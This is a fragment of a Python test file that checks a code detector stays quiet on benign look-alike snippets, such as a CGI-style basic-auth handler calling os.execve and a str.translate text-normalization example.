    "    user = base64.decodebytes(auth.encode())\n    env = {'REMOTE_USER': user}\n"
    "    if user:\n        env['AUTH_TYPE'] = 'basic'\n    os.execve(script, [script], env)\n",
    # str.translate for ordinary text normalization, not run
    "T = str.maketrans('abc', 'xyz')\nprint('abc'.translate(T))\n",
])
def test_generalized_benign_look_alikes_are_quiet(source: str) -> None:
    assert types(source) == set()
